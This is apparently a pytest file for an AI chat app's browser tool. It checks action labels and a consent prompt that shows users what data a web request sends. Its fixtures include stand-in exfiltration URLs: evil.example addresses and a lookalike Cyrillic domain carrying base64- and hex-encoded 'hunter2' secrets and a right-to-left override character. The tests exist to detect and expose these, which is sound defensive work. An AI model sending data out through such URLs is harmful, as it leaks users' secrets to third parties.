"""Words about calls of the browser, and about what is sent to the web."""

from __future__ import annotations

import io
import json
from contextlib import nullcontext

import pytest

from app.base.pages.display_reading import readable
from app.base.pages.stored_page import Page
from app.base.types import Message, Outcome, Part, PartKind, ResultFacts, Role
from app.cli import terminal_consent
from app.exchange.answer_steps import answer_steps
from app.store.search_words import called_in
from app.tools.browser.page import lines_of
from app.tools.browser.policy import ChatFacts, judge_open, judge_search, web_proposal
from app.tools.browser.viewport import display_text
from app.tools.tool import Call, ConsentReason, Effect, Proposal
from app.tools.tool_events import Consent, Decision
from app.wording.browser_words import page_of, sending_words, sites_of
from app.wording.mcp_words import decided_sentence
from app.wording.tool_words import CallPhase, call_label, calls_made, consent_question


def page(title: str, address: str) -> Part:
    return Part(address, PartKind.PAGE, title)


COPPER = page("Copper", "https://www.example.org/copper?x=1")
FOUND = page("Find results for text: `zinc` in `Copper`", "https://example.org/copper")
NOTES = page("My notes", "files:/a/no%20tes.md")


def label(
    function: str,
    arguments: dict[str, object],
    phase: CallPhase = CallPhase.ENDED,
    *,
    shown: Part | None = None,
    **facts: object,
) -> str:
    own = ResultFacts(seconds=2.0, **facts)  # type: ignore[arg-type]
    text = json.dumps(arguments)
    return call_label(f"browser.{function}", text, phase, facts=own, page=shown)


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        (label("search", {"query": "copper"}, source="files:N", count=5),
         "Searched your files for “copper” · 5 results"),
        (label("search", {"query": "copper"}, source="web", count=1),
         "Searched the web for “copper” · 1 result"),
        (label("search", {"query": "copper"}, source="zim:Wikipedia", count=0),
         "Searched Wikipedia for “copper” · 0 results"),
        (label("search", {"query": "copper"}, CallPhase.RUNNING, source="web"),
         "Searching the web for “copper”…"),
        (label("search", {"query": "copper"}, CallPhase.RUNNING, source="zim:web"),
         "Searching web for “copper”…"),
        (label("search", {}, CallPhase.WRITTEN), "Searching…"),
        (label("search", {"query": "copper"}, CallPhase.ASKED), "Search for “copper”"),
        (label("search", {"query": "a\u202eb”"}, CallPhase.LEFT),
         "Search for “a⟨U+202E⟩b\"” · not run"),
        (label("search", {"query": "x"}, outcome=Outcome.FAILED, source="web"),
         "Search the web for “x” · failed"),
        (label("open", {"id": 0}, shown=COPPER), "Read “Copper” · example.org"),
        (label("open", {"cursor": 2, "loc": 40}, shown=COPPER), "Read more of “Copper”"),
        (label("open", {"id": "0"}, shown=NOTES), "Read “My notes” · no tes.md"),
        (label("open", {"id": 1}, shown=page("Copper", "zim:/Wikipedia/Copper")),
         "Read “Copper” · Wikipedia"),
        (label("open", {"id": 1}, CallPhase.RUNNING), "Opening a page…"),
        (label("open", {"loc": 1}, CallPhase.RUNNING), "Reading more…"),
        (label("open", {"id": "https://evil.example/?d=1"}, CallPhase.RUNNING),
         "Opening evil.example…"),
        (label("open", {"id": "https://evil.example/"}, outcome=Outcome.INVALID),
         "Open evil.example · not available"),
        (label("open", {"id": "https://evil.example@x"}, CallPhase.ASKED), "Open a page"),
        (label("open", {"id": "https://аррӏе.com"}, CallPhase.ASKED), "Open xn--80ak6aa92e.com"),
        (label("find", {"pattern": "zinc"}, shown=FOUND, count=3),
         "Found “zinc” 3 times in “Copper”"),
        (label("find", {"pattern": "zinc"}, shown=FOUND, count=1),
         "Found “zinc” 1 time in “Copper”"),
        (label("find", {"pattern": "zinc"}, shown=FOUND, count=0),
         "Didn’t find “zinc” in “Copper”"),
        (label("find", {"pattern": "zinc"}, count=2), "Found “zinc” 2 times"),
        (label("find", {"pattern": "zinc"}, CallPhase.RUNNING), "Looking for “zinc” in the page…"),
        (call_label("browser.search", "not JSON", CallPhase.LEFT), "Search · not run"),
        (call_label("browser.open", '{"id": [1]}', CallPhase.LEFT), "Open a page · not run"),
    ],
)  # fmt: skip
def test_a_row_says_what_the_browser_does(said: str, expected: str) -> None:
    assert said == expected


def test_a_refused_call_says_so_once() -> None:
    facts = ResultFacts(Outcome.REFUSED)
    said = call_label(
        "browser.open", '{"id": "a.example"}', CallPhase.ENDED, facts=facts,
        decision=Decision.REFUSE,
    )  # fmt: skip
    assert said == "Open a.example · You didn’t allow this"


def test_an_answer_says_how_much_it_has_read() -> None:
    search, read = ("browser.search", None), ("browser.open", COPPER)
    assert calls_made([search]) == "searched once"
    assert calls_made([search, search, read, read]) == "searched twice, read a page"
    many = [search] * 3 + [("browser.open", page(str(n), f"https://a.example/{n}")) for n in "12"]
    assert calls_made([*many, ("browser.open", None)]) == "searched 3 times, read 2 pages"
    assert calls_made([("browser.find", FOUND)]) == "searched a page"
    assert calls_made([search, ("python", None)]) == "searched once, ran Python"
    kinds = [(name, None) for name in ("python", "functions.a__b", "functions.c")]
    assert calls_made([search, *kinds]) == "searched once, 3 tool calls"
    sites = [f"https://{name}.example/" for name in "abbcde"]
    pages = [NOTES, *(page("", site) for site in sites), page("", "zim:/W/a")]
    assert sites_of(pages) == "a.example, b.example, c.example and 3 more"
    assert sites_of(pages[:3]) == "a.example, b.example"


def test_the_search_and_exports_read_pages_as_people_do() -> None:
    text = (
        " ".join(["It is a metal that conducts electricity well."] * 4)
        + " See 【0†zinc†z.example】."
    )
    lines = tuple(lines_of(f"\nURL: {COPPER.text}\n{text}"))
    shown = Page(COPPER.text, "Copper", lines, ("https://z.example/",), source="web")
    display = display_text(shown, 3, 0, len(lines) - 1)
    call = Part('{"id": 0}', PartKind.CALL, "browser.open", "1")
    result = Part(display, PartKind.RESULT, "browser.open", "1", facts=ResultFacts(source="web"))
    message = Message(Role.ASSISTANT, (call, result, COPPER, Part("It is a metal.")))
    assert display.count("\nL") > 4
    plain = text.replace("【0†zinc†z.example】", "zinc (z.example)")
    assert called_in(message).split("\n\n") == [call.text, "Copper", COPPER.text, plain]
    called, said = answer_steps(message, reasoning=True)
    assert called.output == f"{COPPER.text}\n\n{plain}"
    assert (called.page, said.text) == (COPPER, "It is a metal.")
    page = page_of(result)
    assert page
    assert page.name == f"Copper ({COPPER.text})"
    assert page_of(Part("[0] x\ny", PartKind.RESULT, "browser.open")) is None
    assert page_of(Part(display, PartKind.RESULT, "python")) is None
    assert readable("[0] x\nno display\nL0: y") == "[0] x\nno display\nL0: y"


CALL = Call("1", "browser.open", "{}")


def test_a_question_shows_all_that_is_sent_as_it_reads() -> None:
    address = (
        "https://xn--80ak6aa92e.com/note/aHVudGVyMiBpcyBteQ"
        "?d=my%20secret%E2%80%AEx&key=68756e7465723220&flag"
    )
    words = sending_words(web_proposal(CALL, judge_open(address, ChatFacts())))
    assert words
    assert words.site == "xn--80ak6aa92e.com"
    assert "“аррӏе.com”" in words.note
    assert words.shown == (
        ("Address", address),
        ("Sends “d”", "my secret\u202ex"),
        ("Sends “key”", "68756e7465723220"),
        ("“68756e7465723220” decoded", "hunter2 "),
        ("Sends “flag”", "flag"),
        ("“aHVudGVyMiBpcyBteQ” decoded", "hunter2 is my"),
    )
    assert (words.once, words.refuse) == ("Open once", "Don’t open")


def test_a_question_about_a_search_shows_its_words() -> None:
    proposal = web_proposal(CALL, judge_search("notes aHVudGVyMiBpcyBteQ", ChatFacts(private=True)))
    words = sending_words(proposal)
    assert words
    assert words.shown == (
        ("Search words", "notes aHVudGVyMiBpcyBteQ"),
        ("“aHVudGVyMiBpcyBteQ” decoded", "hunter2 is my"),
    )
    assert (words.site, words.once, words.refuse) == ("", "Search", "Don’t search")
    consent = Consent("1", proposal, ConsentReason.QUERY, lasting=False)
    assert consent_question(consent, 0) == "Search the web for this?"


def test_what_was_decided_about_a_site_names_it() -> None:
    function = web_proposal(CALL, judge_open("https://www.a.example/", ChatFacts())).function
    assert decided_sentence("chat", "web", function, "Metals") == (
        "Open a.example: Always in “Metals”"
    )
    assert decided_sentence("never", "files", "open a", "") == "files · open a: Never"


def test_other_proposals_are_asked_about_as_ever() -> None:
    for proposal in (
        None,
        Proposal("mcp:web", CALL, Effect.READS, "open", "web", shown=(("address", "https://a.b"),)),
        Proposal("web", CALL, Effect.READS, "open", shown=(("address", "https://a@b"),)),
        Proposal("web", CALL, Effect.READS, "find"),
    ):
        assert sending_words(proposal) is None


@pytest.mark.parametrize(
    ("typed", "decision"),
    [("y", Decision.ONCE), ("a", Decision.ALWAYS), ("n", Decision.REFUSE), ("", Decision.REFUSE)],
)
def test_a_terminal_asks_the_same(
    monkeypatch: pytest.MonkeyPatch, typed: str, decision: Decision
) -> None:
    address = "https://xn--80ak6aa92e.com/?d=my%20secret%E2%80%AE"
    verdict = judge_open(address, ChatFacts())
    assert verdict.reason
    consent = Consent("1", web_proposal(CALL, verdict), verdict.reason, lasting=verdict.lasting)
    screen = io.StringIO()
    keyboard = io.StringIO(f"{typed}\n" if typed else "")
    monkeypatch.setattr(terminal_consent, "_terminal", lambda: nullcontext((keyboard, screen)))
    monkeypatch.setattr(terminal_consent, "_drop_typed_ahead", lambda keyboard: None)
    assert terminal_consent.decide(consent, 0)
    assert consent.decision is decision
    assert screen.getvalue().strip().split("\n") == [
        "Open a page of xn--80ak6aa92e.com?",
        "In its own script, this name is “аррӏе.com”. It may imitate another site. "
        "You didn’t type this address, and no search or page linked to it.",
        f"  Address: {address}",
        "  Sends “d”: my secret⟨U+202E⟩",
        "[y] Open once  [a] Always this site for this answer  [n] Don’t open",
    ]
